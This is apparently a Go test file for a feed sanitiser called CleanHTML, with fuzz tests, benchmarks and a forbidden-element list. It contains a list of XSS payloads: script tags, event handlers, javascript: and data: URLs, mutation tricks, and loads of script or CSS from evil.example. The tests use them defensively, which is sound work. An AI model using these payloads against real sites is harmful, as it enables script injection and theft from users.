package feeds

import (
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func mustURL(t testing.TB, s string) *url.URL {
	t.Helper()
	u, err := url.Parse(s)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

func TestCleanHTMLKeeps(t *testing.T) {
	base := mustURL(t, "https://news.example.org/2026/03/story.html")
	tests := []struct{ name, in, want string }{
		{"paragraphs and breaks", "<p>One<br>two</p>", "<p>One<br/>two</p>"},
		{"emphasis", "<p><em>a</em> <strong>b</strong> <code>c</code></p>", "<p><em>a</em> <strong>b</strong> <code>c</code></p>"},
		{"lists", "<ul><li>a</li></ul><ol><li>b</li></ol>", "<ul><li>a</li></ul><ol><li>b</li></ol>"},
		{"quote and pre", "<blockquote>q</blockquote><pre>x  y</pre>", "<blockquote>q</blockquote><pre>x  y</pre>"},
		{"headings h2-h6", "<h2>a</h2><h3>b</h3><h6>c</h6>", "<h2>a</h2><h3>b</h3><h6>c</h6>"},
		{"h1 becomes text", "<h1>Title</h1><p>x</p>", "Title\n<p>x</p>"},
		{"dropped blocks keep words apart", "<div>one</div><div><section>two</section></div>", "one\n\ntwo"},
		{"dropped inline tags add no space", "<p>x<span>y</span><font>z</font></p>", "<p>xyz</p>"},
		{"table basics", `<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td rowspan="x">d</td></tr></tbody></table>`,
			`<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>`},
		{"absolute link", `<a href="https://example.com/a">x</a>`,
			`<a href="https://example.com/a" rel="nofollow noopener noreferrer">x</a>`},
		{"relative link resolved", `<a href="../other.html">x</a>`,
			`<a href="https://news.example.org/2026/other.html" rel="nofollow noopener noreferrer">x</a>`},
		{"link canonical, no tracking", `<a href="HTTPS://Example.com:443/a?utm_source=feed&id=3#c">x</a>`,
			`<a href="https://example.com/a?id=3" rel="nofollow noopener noreferrer">x</a>`},
		{"target and own rel removed", `<a href="https://example.com/" target="_blank" rel="opener" title="t" id="i" class="c">x</a>`,
			`<a href="https://example.com/" rel="nofollow noopener noreferrer">x</a>`},
		{"script link becomes text", `<p><a href="javascript:alert(1)">x</a></p>`, `<p>x</p>`},
		{"link without href becomes text", `<a name="top">x</a>`, `x`},
		{"images dropped", `<p>a<img src="https://t.example/p.gif" width="1" height="1">b</p>`, `<p>ab</p>`},
		{"ids and classes dropped", `<p id="comment-1" class="x" style="color:red">t</p>`, `<p>t</p>`},
		{"hidden attribute dropped", `<p>shown</p><div hidden><a href="https://spam.example/">s</a></div>`, `<p>shown</p>`},
		{"display none dropped", `<p>shown</p><span style="DISPLAY: none !important">secret</span>`, `<p>shown</p>`},
		{"aria-hidden dropped", `<p>a<span aria-hidden="true">icon</span></p>`, `<p>a</p>`},
		{"entities kept escaped", `<p>AT&amp;T &lt;3 &copy;</p>`, `<p>AT&amp;T &lt;3 ©</p>`},
		{"comment dropped", `<p>a<!-- tracking id 42 -->b</p>`, `<p>ab</p>`},
		{"empty", "   ", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := CleanHTML(tt.in, base)
			if got != tt.want {
				t.Fatalf("CleanHTML(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if again := CleanHTML(got, base); again != got {
				t.Fatalf("not idempotent: %q -> %q", got, again)
			}
		})
	}
}

func TestCleanHTMLWithoutOrHostileBase(t *testing.T) {
	for _, base := range []*url.URL{nil, mustURL(t, "javascript:alert(1)//"), mustURL(t, "data:text/html,x")} {
		got := CleanHTML(`<a href="page.html">rel</a> <a href="https://ok.example/">abs</a>`, base)
		want := `rel <a href="https://ok.example/" rel="nofollow noopener noreferrer">abs</a>`
		if got != want {
			t.Errorf("base %v: got %q, want %q", base, got, want)
		}
	}
}

// xssPayloads are hostile fragments, each of which must come out of CleanHTML
// harmless.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://tracker.example/p.gif" width="1" height="1">`,
	`<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">`,
	`<picture><source srcset="https://tracker.example/a.webp"><img src="a.png"></picture>`,
	`<svg onload=alert(1)><circle r=1 /></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="  javascript:alert(1)">x</a>`,
	"<a href=\"java\x00script:alert(1)\">x</a>",
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">ok</a>`,
	`<a href="#" xlink:href="javascript:alert(1)">x</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
	`<iframe src=https://ads.example/>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
	`<form action="javascript:alert(1)"><input type=submit value=go></form>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<input autofocus onfocus=alert(1)>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<div onmouseover="alert(1)">hover</div>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)><summary>s</summary></details>`,
	`<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//"><a href="x">x</a>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<blockquote cite="javascript:alert(1)">q</blockquote>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<template><script>alert(1)</script></template>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<plaintext><script>alert(1)</script>`,
}

// forbiddenElements must never appear in cleaned content.
var forbiddenElements = map[string]bool{
	"script": true, "img": true, "iframe": true, "object": true, "embed": true,
	"svg": true, "math": true, "style": true, "form": true, "input": true,
	"button": true, "textarea": true, "select": true, "link": true, "meta": true,
	"base": true, "video": true, "audio": true, "source": true, "picture": true,
	"template": true, "frame": true, "frameset": true, "noscript": true, "body": false,
}

// checkHarmless fails t if out, parsed as HTML, holds anything active.
func checkHarmless(t testing.TB, in, out string) {
	t.Helper()
	if strings.Contains(strings.ToLower(out), "<script") {
		t.Fatalf("CleanHTML(%q) = %q: contains <script", in, out)
	}
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("output %q does not parse: %v", out, err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if forbiddenElements[n.Data] || n.Namespace != "" {
				t.Fatalf("CleanHTML(%q) = %q: has <%s>", in, out, n.Data)
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if strings.HasPrefix(key, "on") || key == "style" || key == "src" || key == "srcset" ||
					key == "target" || a.Namespace != "" {
					t.Fatalf("CleanHTML(%q) = %q: has attribute %s", in, out, a.Key)
				}
				v := strings.ToLower(strings.Map(func(r rune) rune {
					if r <= ' ' {
						return -1
					}
					return r
				}, a.Val))
				for _, scheme := range []string{"javascript:", "data:", "vbscript:"} {
					if strings.HasPrefix(v, scheme) {
						t.Fatalf("CleanHTML(%q) = %q: %s=%q", in, out, a.Key, a.Val)
					}
				}
			}
			if n.Data == "a" {
				for _, a := range n.Attr {
					switch a.Key {
					case "href":
						if !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") {
							t.Fatalf("CleanHTML(%q) = %q: href %q", in, out, a.Val)
						}
					case "rel":
						if a.Val != linkRel {
							t.Fatalf("CleanHTML(%q) = %q: rel %q", in, out, a.Val)
						}
					}
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

func TestCleanHTMLPayloads(t *testing.T) {
	if len(xssPayloads) < 20 {
		t.Fatalf("only %d payloads", len(xssPayloads))
	}
	base := mustURL(t, "https://news.example.org/a/b.html")
	for _, p := range xssPayloads {
		for _, in := range []string{p, "<p>before</p>" + p + "<p>after</p>", "<ul><li>" + p + "</li></ul>"} {
			checkHarmless(t, in, CleanHTML(in, base))
			checkHarmless(t, in, CleanHTML(in, nil))
		}
	}
	// The harmless part of a mixed payload survives.
	got := CleanHTML(`<a href="https://ok.example/" onclick="alert(1)">ok</a>`, base)
	if got != `<a href="https://ok.example/" rel="nofollow noopener noreferrer">ok</a>` {
		t.Errorf("mixed payload: %q", got)
	}
}

func TestCleanHTMLConcurrent(t *testing.T) {
	// The sanitising policy is shared; -race checks it is only read.
	base := mustURL(t, "https://news.example.org/a/b.html")
	done := make(chan string)
	for i := 0; i < 4; i++ {
		go func() {
			out := ""
			for _, p := range xssPayloads {
				out = CleanHTML(`<p><a href="/x">x</a></p>`+p, base)
			}
			done <- out
		}()
	}
	for i := 0; i < 4; i++ {
		if out := <-done; !strings.HasPrefix(out, `<p><a href="https://news.example.org/x"`) {
			t.Errorf("got %q", out)
		}
	}
}

func FuzzCleanHTML(f *testing.F) {
	for _, p := range xssPayloads {
		f.Add(p)
	}
	f.Add(`<p>Plain <a href="/x?utm_source=y">link</a> &amp; text</p>`)
	f.Add(`<table><tr><td colspan=3>x</td></tr></table>`)
	f.Add(`<div style="display:none"><p>hidden</p></div><h1>t</h1>`)
	base, _ := url.Parse("https://news.example.org/a/b.html")
	f.Fuzz(func(t *testing.T, in string) {
		out := CleanHTML(in, base)
		checkHarmless(t, in, out)
	})
}

func BenchmarkCleanHTML(b *testing.B) {
	var sb strings.Builder
	for i := 0; i < 40; i++ {
		sb.WriteString(`<p>Paragraph with <a href="/post?utm_source=rss&id=3">a link</a>, <em>emphasis</em> ` +
			`and an image <img src="https://t.example/p.gif" width="1" height="1"> that must go.</p>`)
	}
	in := sb.String()
	base, _ := url.Parse("https://news.example.org/a/b.html")
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		CleanHTML(in, base)
	}
}

func BenchmarkCanonicalURL(b *testing.B) {
	base, _ := url.Parse("https://news.example.org/a/b.html")
	for b.Loop() {
		if _, err := CanonicalURL("../2026/03/story.html?id=7&utm_source=rss&utm_medium=feed#top", base); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkSummarize(b *testing.B) {
	in := strings.Repeat("<p>Some <b>bold</b> text &amp; entities about privacy.</p>", 40)
	for b.Loop() {
		Summarize(in, SummaryMax)
	}
}
